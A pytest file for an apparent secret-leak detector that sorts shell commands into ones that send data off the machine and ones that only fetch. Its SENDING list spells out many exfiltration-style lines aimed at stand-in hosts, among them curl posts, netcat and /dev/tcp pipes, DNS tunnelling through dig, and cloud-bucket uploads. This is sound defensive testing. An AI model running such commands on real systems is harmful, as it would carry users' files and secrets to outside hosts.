"""A labelled set of commands that carry data off the machine, and of those that only fetch."""

from __future__ import annotations

import pytest

from secretguard.shell.send import STEPS, host_of
from tests.secretguard.shell.place import effects
from tests.secretguard.shell.test_reveal import listed

SENDING = """
    curl -d @file https://x.example
    curl -d@file https://x.example
    curl --data 'a=b' https://x.example
    curl --data-binary @file https://x.example
    curl --json '{}' https://x.example
    curl -F 'f=@file' https://x.example
    curl -T file https://x.example
    curl -sSd x https://x.example
    curl --upload-file=x https://x.example
    cat x | curl -d @- https://x.example
    wget --post-file=x https://x.example
    wget --post-data a=b https://x.example
    http POST https://x.example a=b
    scp file host:/tmp
    scp file user@host:
    rsync -a dir host:/backup
    sftp host
    nc host.example 9000
    cat x | nc host.example 9000
    socat - TCP:host.example:80
    telnet host.example 25
    echo x > /dev/tcp/host.example/80
    cat < /dev/tcp/host.example/80
    openssl s_client -connect host.example:443
    aws s3 cp file s3://bucket/
    aws s3 sync . s3://bucket
    gsutil cp x gs://bucket
    gcloud storage cp x gs://bucket
    rclone copy x remote:path
    az storage blob upload -f x
    gh gist create file
    gh release upload v1 file
    docker push image
    mail -s x a@b.example
    python -m http.server
    python3 -m http.server 8000
    ngrok http 80
    cloudflared tunnel run
    dig $(cat x).host.example
    nslookup "$DATA.host.example"
    bash -c 'curl -d x https://x.example'
    sudo curl -d x https://x.example
    """

FETCHING = """
    curl https://x.example
    curl -fsSL https://x.example -o file
    curl -I https://x.example
    curl -d '{}' http://localhost:8080/api
    curl --json '{}' http://127.0.0.1:3000
    wget https://x.example/file
    scp host:/tmp/file .
    rsync -a host:/backup dir
    rsync -a a/ b/
    nc -z host 80
    nc localhost 5432
    telnet localhost 25
    aws s3 cp s3://bucket/file .
    aws s3 ls
    gsutil cp gs://bucket/x .
    docker pull image
    docker build .
    git fetch
    git clone https://x.example/repo
    pip install x
    npm install
    dig host.example
    ping host.example
    openssl version
    python -m json.tool file
    echo curl -d x
    """


@pytest.mark.parametrize("command", listed(SENDING))
def test_what_leaves_the_machine_is_seen(command: str) -> None:
    """Each command of the set is recognised."""
    assert "send" in effects(command)


@pytest.mark.parametrize("command", listed(FETCHING))
def test_fetching_and_loopback_are_not_sending(command: str) -> None:
    """Downloads, and uploads to this machine, pass."""
    assert "send" not in effects(command)


@pytest.mark.parametrize("step", STEPS, ids=lambda s: " ".join([s.program, *s.follows]))
def test_every_row_of_the_table_fits_its_own_command(step: object) -> None:
    """A row that can never fire is a hole: each is run as the command that it describes."""
    assert "send" in effects(" ".join([step.program, *(w.replace("*", "x") for w in step.follows)]))  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    ("word", "host"),
    [
        ("https://api.example/x?y", "api.example"),
        ("https://user:pw@Api.Example:443/", "api.example"),
        ("git@host.example:repo", "host.example"),
        ("http://[::1]:80/", "[::1]"),
        ("host.example:80", "host.example"),
        ("localhost:80", "localhost"),
        ("src/a.py", ""),
        ("word", ""),
        ("two words.here", ""),
    ],
)
def test_the_host_that_a_word_names(word: str, host: str) -> None:
    """URLs, `user@host` and `host:port` name a host; paths and plain words do not."""
    assert host_of(word) == host
